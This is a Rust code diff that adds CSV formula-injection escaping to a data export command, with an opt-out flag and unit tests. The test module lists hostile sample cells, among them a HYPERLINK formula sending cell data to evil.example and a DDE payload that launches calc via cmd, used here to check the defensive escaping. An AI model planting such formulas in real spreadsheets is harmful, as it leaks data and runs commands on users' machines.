@@ -68,6 +68,10 @@ pub struct ExportArgs {
     /// Write to this file instead of stdout (written whole or not at all).
     #[arg(long, short, value_name = "FILE")]
     output: Option<PathBuf>,
+    /// In CSV, write text that starts like a spreadsheet formula (`=`, `+`, `-`, `@`, tab, CR)
+    /// as it is, instead of behind a `'` that keeps spreadsheets from running it.
+    #[arg(long)]
+    keep_formulas: bool,
 }
 
 /// Why an export stopped.
@@ -112,10 +116,15 @@ pub(super) async fn export(store: &Store, args: ExportArgs) -> Result<ExitCode, 
         ),
     };
     let filter = ExportFilter { since, video_id };
+    let format = match args.format {
+        ExportFormat::Csv if !args.keep_formulas => Format::Csv { formulas: false },
+        ExportFormat::Csv => Format::Csv { formulas: true },
+        ExportFormat::Jsonl => Format::Jsonl,
+    };
     match &args.output {
         None => {
             let stdout = io::stdout().lock();
-            match write_export(store, table, &filter, args.format, stdout).await {
+            match write_export(store, table, &filter, format, stdout).await {
                 Ok(_) => Ok(ExitCode::SUCCESS),
                 // `export ... | head`: the reader has all it wants.
                 Err(ExportError::Io(e)) if e.kind() == io::ErrorKind::BrokenPipe => {
@@ -125,7 +134,7 @@ pub(super) async fn export(store: &Store, args: ExportArgs) -> Result<ExitCode, 
             }
         }
         Some(path) => {
-            let rows = export_to_file(store, table, &filter, args.format, path).await?;
+            let rows = export_to_file(store, table, &filter, format, path).await?;
             outln!(
                 "wrote {rows} {} row{} to {}",
                 table.name(),
@@ -142,7 +151,7 @@ async fn export_to_file(
     store: &Store,
     table: ExportTable,
     filter: &ExportFilter,
-    format: ExportFormat,
+    format: Format,
     path: &Path,
 ) -> Result<u64, Failure> {
     let name = path.file_name().ok_or_else(|| {
@@ -151,6 +160,12 @@ async fn export_to_file(
             path.display()
         ))
     })?;
+    if path.is_dir() {
+        return Err(Failure::Usage(anyhow::anyhow!(
+            "--output {} is a folder; name a file in it",
+            path.display()
+        )));
+    }
     let mut partial_name = std::ffi::OsString::from(".");
     partial_name.push(name);
     partial_name.push(format!(".{}.partial", std::process::id()));
@@ -175,14 +190,14 @@ async fn write_export<W: Write>(
     store: &Store,
     table: ExportTable,
     filter: &ExportFilter,
-    format: ExportFormat,
+    format: Format,
     out: W,
 ) -> Result<u64, ExportError> {
     let mut pages = store.export_pages(table, filter, PAGE_ROWS).await?;
     let columns = pages.columns().to_vec();
     let mut rows = 0u64;
     match format {
-        ExportFormat::Csv => {
+        Format::Csv { formulas } => {
             let mut writer = csv::WriterBuilder::new()
                 .terminator(csv::Terminator::CRLF)
                 .from_writer(out);
@@ -193,13 +208,13 @@ async fn write_export<W: Write>(
                     break;
                 }
                 for row in &page {
-                    writer.write_record(row.cells.iter().map(csv_field))?;
+                    writer.write_record(row.cells.iter().map(|cell| csv_field(cell, formulas)))?;
                 }
                 rows += page.len() as u64;
             }
             writer.flush()?;
         }
-        ExportFormat::Jsonl => {
+        Format::Jsonl => {
             let mut writer = BufWriter::new(out);
             let keys: Vec<String> = columns
                 .iter()
@@ -221,12 +236,24 @@ async fn write_export<W: Write>(
     Ok(rows)
 }
 
-/// A cell as CSV text: NULL as an empty field, numbers in decimal, BLOBs in hex.
-fn csv_field(cell: &Cell) -> String {
+/// The format as written: [`ExportFormat`] with its options.
+#[derive(Debug, Clone, Copy)]
+enum Format {
+    Csv { formulas: bool },
+    Jsonl,
+}
+
+/// A cell as CSV text: NULL as an empty field, numbers in decimal, BLOBs in hex. Unless
+/// `formulas`, text that a spreadsheet would take for a formula gets a leading `'` (titles come
+/// from any uploader: `=HYPERLINK(...)` would run when the file is opened in Excel or WPS).
+fn csv_field(cell: &Cell, formulas: bool) -> String {
     match cell {
         Cell::Null => String::new(),
         Cell::Integer(n) => n.to_string(),
         Cell::Real(x) => x.to_string(),
+        Cell::Text(text) if !formulas && text.starts_with(['=', '+', '-', '@', '\t', '\r']) => {
+            format!("'{text}")
+        }
         Cell::Text(text) => text.clone(),
         Cell::Blob(bytes) => hex(bytes),
     }
@@ -299,10 +326,31 @@ mod tests {
 
     #[test]
     fn csv_fields_are_plain_text() {
-        assert_eq!(csv_field(&Cell::Null), "");
-        assert_eq!(csv_field(&Cell::Integer(-3)), "-3");
-        assert_eq!(csv_field(&Cell::Real(1.25)), "1.25");
-        assert_eq!(csv_field(&Cell::Text("a,b".to_owned())), "a,b");
-        assert_eq!(csv_field(&Cell::Blob(vec![1, 2])), "0102");
+        for formulas in [false, true] {
+            assert_eq!(csv_field(&Cell::Null, formulas), "");
+            assert_eq!(csv_field(&Cell::Integer(-3), formulas), "-3");
+            assert_eq!(csv_field(&Cell::Real(-1.25), formulas), "-1.25");
+            assert_eq!(csv_field(&Cell::Text("a,b".to_owned()), formulas), "a,b");
+            assert_eq!(csv_field(&Cell::Blob(vec![1, 2]), formulas), "0102");
+        }
+    }
+
+    #[test]
+    fn csv_text_that_would_run_as_a_formula_is_kept_from_running() {
+        for hostile in [
+            "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
+            "+cmd|' /C calc'!A0",
+            "-2+3",
+            "@SUM(A1:A9)",
+            "\t=1+1",
+            "\r=1+1",
+        ] {
+            let cell = Cell::Text(hostile.to_owned());
+            assert_eq!(csv_field(&cell, false), format!("'{hostile}"));
+            assert_eq!(csv_field(&cell, true), hostile, "--keep-formulas");
+        }
+        for plain in ["标题 = 1", "a-b", "", "'quoted", "[\"title\"]"] {
+            assert_eq!(csv_field(&Cell::Text(plain.to_owned()), false), plain);
+        }
     }
 }
